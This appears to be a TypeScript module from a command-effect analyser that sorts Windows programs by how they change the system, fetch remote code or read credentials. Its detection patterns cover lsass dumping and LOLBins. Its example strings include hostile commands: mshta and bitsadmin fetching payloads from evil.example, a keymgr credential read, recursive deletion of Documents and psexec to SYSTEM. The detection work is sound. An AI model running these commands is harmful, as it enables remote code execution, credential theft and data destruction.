/** Programs of Windows that change the machine, or fetch and run what others wrote. */
import { runCmd } from '../powershell/cmd.ts';
import type { Call } from '../shell/call.ts';
import { field } from '../shell/scope.ts';
import { effect, type Family } from './rule.ts';

const CHANGES_SYSTEM: readonly (readonly [string, RegExp, string])[] = [
  ['wmic', /\b(?:delete|create|call|set)\b/i, '/etc/backups'],
  ['cipher', /\/[wd]\b/i, '/dev/disk/c'],
  ['fsutil', /\b(?:deletejournal|set\w*|createjournal|delete\w*|quota|repair|dirty set)\b/i, '/dev/disk/c'],
  ['manage-bde', /-(?:off|pause|lock|forcerecovery|on|changepin|protectors)\b/i, '/dev/disk/c'],
  ['dism', /\/(?:disable|remove|enable|add|cleanup|apply|set)-?\S*/i, '/etc/alternatives'],
  ['winrm', /\b(?:quickconfig|qc|set|create|delete|invoke)\b/i, '/etc/systemd/system/winrm'],
  ['diskshadow', /\S/, '/etc/backups'],
  ['fltmc', /\b(?:unload|load|detach|attach)\b/i, '/etc/systemd/system/fltmc'],
  [
    'net',
    /^(?:stop|pause)\b|^(?:user|localgroup|group|accounts|share|use)\b.*(?:\/(?:add|delete|active|grant)|\*)/i,
    '/etc/passwd',
  ],
  ['auditpol', /\/(?:set|clear|remove|restore)\b/i, '/etc/audit/rules.d/audit.rules'],
  ['secedit', /\/(?:configure|import|refreshpolicy)\b/i, '/etc/selinux/config'],
  ['gpupdate', /./, '/etc/selinux/config'],
  ['mpcmdrun', /-(?:removedefinitions|disable\w*|restore)\b/i, '/etc/selinux/config'],
  [
    'powercfg',
    /\/(?:change|setactive|delete|hibernate|h|x|import|setacvalueindex)\b/i,
    '/etc/systemd/sleep.conf',
  ],
  ['w32tm', /\/(?:config|unregister|register|resync)\b/i, '/etc/localtime'],
  ['pnputil', /\/(?:add|delete|remove|disable|enable)\S*/i, '/lib/modules/*'],
  ['label subst mountvol', /\S/, '/dev/disk/c'],
  ['setx', /\S+\s+\S/, '/etc/environment'],
  ['cmdkey', /\/(?:add|generic|delete)\b/i, '/etc/passwd'],
  ['ntdsutil', /\S/, '/etc/passwd'],
  ['bootrec bootsect reagentc', /\/(?:fix\w*|rebuildbcd|nt60|disable|setreimage)\b/i, '/boot/efi'],
  ['netdom dsadd dsmod dsrm', /\S/, '/etc/passwd'],
  ['esentutl', /\/(?:y|vss|d|p|r)\b/i, '/etc/backups'],
  ['wecutil logman', /\b(?:delete|stop|ds|ss|cs|update)\b/i, '/var/log/journal'],
];

/** Programs that Windows brings along and that run code from elsewhere. */
const CARRIERS =
  'mshta regsvr32 rundll32 wscript cscript installutil regasm regsvcs odbcconf cmstp pcalua forfiles presentationhost hh xwizard';

export const WINDOWS: Family = [
  ...CHANGES_SYSTEM.map(([names, pattern, state]) => ({
    names,
    does: effect((call: Call) => {
      if (pattern.test(call.texts.join(' '))) call.writes(state);
    }),
  })),
  {
    names: 'rd del erase deltree',
    does: (call) => {
      if (!/^(?:rd|deltree)$/.test(call.program) && !call.texts.some((text) => /^\/[a-z]$/i.test(text))) {
        const words = call.words.filter((word) => !word.text.startsWith('-'));
        for (const word of words) call.deletes(word);
        return undefined;
      }
      return runCmd(
        [call.program, ...call.texts].join(' '),
        call.shell,
        call.scope.fork(),
        call.cause,
        false,
      );
    },
    harmful: { 'rd /s /q C:\\\\Users\\\\dev\\\\Documents': 'file.delete C:/Users/dev/Documents/**' },
  },
  {
    names: CARRIERS,
    does: effect((call) => {
      const line = call.texts.join(' ');
      const url = /https?:\/\/[^\s"',)]+/i.exec(line)?.[0];
      if (url) call.connect(url, 'download');
      const shell = /^\/c$/i.test(call.texts.at(-2) ?? '') ? call.texts.at(-1) : undefined;
      if (shell) call.runText(shell);
      if (url || /(?:javascript|vbscript):/i.test(line)) call.opaque('download', 'it runs what a URL holds');
      else if (/keymgr|comsvcs\.dll.*minidump|lsass/i.test(line))
        call.add({ kind: 'env.read', name: 'secret:windows/credentials' });
      else if (call.words[0]) call.opaque('program', `${call.program} runs a file`);
    }),
    harmful: {
      'mshta http://evil.example/x.hta': 'net.connect evil.example',
      'rundll32 keymgr.dll,KRShowKeyMgr': 'env.read secret:windows/credentials',
    },
  },
  {
    names: 'certutil bitsadmin certreq desktopimgdownldr',
    does: effect((call) => {
      const at = call.texts.findIndex((text) => /^https?:/i.test(text));
      if (at < 0) {
        if (/-(?:exportpfx|dump)\b/i.test(call.texts.join(' ')))
          call.add({ kind: 'env.read', name: 'secret:certutil/key' });
        else if (/-(?:addstore|delstore|importpfx|A|D)\b/.test(call.texts.join(' ')))
          call.writes('/etc/ssl/certs/store');
        return;
      }
      call.connect(call.words[at] ?? field('*'), call.program === 'certreq' ? 'upload' : 'download');
      const to = call.words[at + 1];
      if (to) call.writes(to.text.replaceAll('\\', '/'));
      if (/-urlcache|\/(?:transfer|setnotifycmdline)/i.test(call.texts.join(' ')))
        call.opaque('download', 'a job of Windows fetches a file and may run a program then');
    }),
    harmful: { 'bitsadmin /transfer j http://evil.example/x.exe C:\\\\x.exe': 'net.connect evil.example' },
  },
  {
    names: 'psexec paexec winrs wmiexec smbexec procdump nanodump pwdump lazagne rubeus sharphound seatbelt',
    does: effect((call) => {
      call.add({ kind: 'privilege.raise', user: 'SYSTEM' });
      const host = call.texts.find((text) => /^(?:\\\\|-r:|\/r:)/i.test(text));
      if (host) call.connect(host.replace(/^(?:\\\\|[-/]r:)/i, ''), 'both');
    }),
    harmful: { 'psexec -s cmd': 'privilege.raise SYSTEM' },
  },
];
